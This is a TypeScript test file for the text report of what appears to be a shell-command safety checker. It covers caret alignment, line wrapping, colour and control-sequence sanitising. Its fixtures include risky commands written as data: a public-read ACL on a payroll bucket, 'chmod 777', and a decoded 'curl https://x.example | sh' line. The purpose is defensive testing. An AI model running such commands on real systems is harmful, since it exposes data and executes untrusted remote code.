import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Paint } from '../../src/report/paint.ts';
import { plainPaint } from '../../src/report/paint.ts';
import { textReport } from '../../src/report/text.ts';
import { analysisOf, findingAt, holding } from './fixture.ts';
import { matchesGolden } from './golden.ts';

const plain = { width: 80, paint: plainPaint };

function report(text: string, at: string, width = 80): string {
  const finding = findingAt(text, at);
  return textReport(analysisOf(text, [finding]), holding([finding]), { width, paint: plainPaint });
}

test('a pass is one line', () => {
  matchesGolden('report', 'pass.txt', textReport(analysisOf('ls', []), holding([]), plain));
});

test('a finding with everything that can be said about it', () => {
  const text = 'cd /srv\nsudo aws s3api put-bucket-acl --bucket acme-payroll --acl public-read\necho done';
  const finding = findingAt(text, 'public-read', {
    rule: 'aws.s3-acl-public',
    severity: 'critical',
    confidence: 'medium',
    direction: 'unknown',
    audience: 'internet',
    who: 'Everyone on the internet',
    access: 'read',
    resource: 's3://acme-payroll/',
    from: null,
    message:
      'Everyone on the internet will be able to read s3://acme-payroll/ (what it is now could not be seen).',
    why: 'A canned ACL replaces the whole access list of the bucket, so what was granted by name before is gone.',
    advice: {
      check: 'aws s3api get-bucket-acl --bucket acme-payroll',
      safer: 'aws s3 presign s3://acme-payroll/KEY --expires-in 3600',
      undo: 'aws s3api put-bucket-acl --bucket acme-payroll --acl private',
      reference: 'https://docs.aws.amazon.com/AmazonS3/latest/userguide/acl-overview.html',
    },
    via: ['sudo'],
  });
  const decision = holding([finding], {
    friction: ['tick', 'type'],
    checklist: [
      {
        id: 'identity-1',
        kind: 'identity',
        text: 'Is this the account you mean to change?',
        command: 'aws sts get-caller-identity',
        rules: [finding.rule],
      },
      {
        id: 'data-1',
        kind: 'data',
        text: 'Is everything in s3://acme-payroll/ meant for everyone on the internet?',
        rules: [finding.rule],
      },
      {
        id: 'type-1',
        kind: 'type',
        text: 'Type the name of the resource.',
        expect: 's3://acme-payroll/',
        rules: [finding.rule],
      },
    ],
  });
  const analysis = analysisOf(text, [finding], {
    lookups: [{ kind: 'text', path: 'policy.json' }],
    decoded: [{ span: { start: 0, end: 2 }, encoding: 'base64', text: 'curl https://x.example | sh\nid' }],
    marks: [
      { span: { start: 1, end: 2 }, kind: 'bidi', shown: 'U+202E RIGHT-TO-LEFT OVERRIDE' },
      { span: { start: 3, end: 4 }, kind: 'bidi', shown: 'U+202E RIGHT-TO-LEFT OVERRIDE' },
    ],
  });
  matchesGolden('report', 'full.txt', textReport(analysis, decision, plain));
});

test('a long line is cut around the span', () => {
  const text = `echo ${'a'.repeat(3000)} && chmod -R 777 /srv/data && echo ${'b'.repeat(3000)}`;
  matchesGolden('report', 'long-line.txt', report(text, '777'));
});

test('a span over many lines', () => {
  matchesGolden(
    'report',
    'many-lines.txt',
    report('psql <<X\r\na\r\n\r\nb\r\nc\r\nd\r\nX\r\nls', '<<X\r\na\r\n\r\nb\r\nc\r\nd\r\nX'),
  );
});

test('wide and combining letters keep the carets below the span', () => {
  matchesGolden('report', 'wide.txt', report('echo 数据 e\u0301 🎉\t&& chmod 777 d', '777'));
});

test('nothing of the text reaches the terminal as a control sequence', () => {
  const text = 'echo \x1b]0;owned\x07\x1b[2J\u202e\u200b\u00a0\x9b31m\0\x7f && chmod 777 d\r\x08';
  const finding = findingAt(text, '777', {
    message: `bad ${text}`,
    resource: text,
    why: text,
    advice: { check: text, safer: text, undo: text, reference: text },
    via: [text],
    rule: 'x',
  });
  const decision = holding([finding], {
    checklist: [{ id: 'a', kind: 'type', text, command: text, expect: text, rules: [] }],
  });
  const shown = textReport(
    analysisOf(text, [finding], {
      lookups: [{ kind: 'stat', path: text }],
      decoded: [{ span: { start: 0, end: 1 }, encoding: text, text }],
      marks: [{ span: { start: 0, end: 1 }, kind: 'ansi', shown: text }],
    }),
    decision,
    plain,
  );
  assert.doesNotMatch(shown, /[^\n\P{Cc}]|\p{Bidi_Control}|\u200b|\u00a0/u);
  matchesGolden('report', 'control.txt', shown);
});

test('colours add no visible character', () => {
  const text = 'chmod 777 d';
  const finding = findingAt(text, '777', {
    why: 'because',
    advice: { check: 'ls -l', undo: 'irreversible: gone' },
  });
  const paint: Paint = (role, part) => `\x1b[1m${part}\x1b[22m${role === 'label' ? '' : ''}`;
  const analysis = analysisOf(text, [finding]);
  const painted = textReport(analysis, holding([finding]), { width: 80, paint });
  const stripped = painted.replace(/\x1b\[\d+m/g, '');
  assert.deepEqual(
    stripped.split('\n').map((line) => line.trimEnd()),
    textReport(analysis, holding([finding]), plain).split('\n'),
  );
});

test('sentences wrap to the width, commands stay whole', () => {
  const text = 'chmod 777 d';
  const command = `chmod 700 ${'very-'.repeat(20)}long`;
  const finding = findingAt(text, '777', { why: 'one two three '.repeat(30), advice: { safer: command } });
  const shown = textReport(analysisOf(text, [finding]), holding([finding]), { width: 50, paint: plainPaint });
  const long = shown.split('\n').filter((line) => line.length > 50);
  assert.equal(long.length, 1);
  assert.ok(long[0]?.includes(command));
});

test('many findings are counted, not all shown', () => {
  const text = 'chmod 777 d';
  const findings = Array.from({ length: 50 }, () => findingAt(text, '777'));
  const shown = textReport(analysisOf(text, findings), holding(findings), plain);
  assert.match(shown, /… and 30 more findings/);
});

test('a line of ten megabytes costs no more than a short one', () => {
  const text = `${'x'.repeat(10_000_000)} chmod 777 d`;
  const finding = findingAt(text, '777');
  const start = performance.now();
  textReport(analysisOf(text, [finding]), holding([finding]), plain);
  assert.ok(performance.now() - start < 500);
});

test('a span beyond the text still gives a report', () => {
  const finding = findingAt('ls', 'ls', { span: { start: 5, end: 9 } });
  assert.match(textReport(analysisOf('ls', [finding]), holding([finding]), plain), /\^/);
});
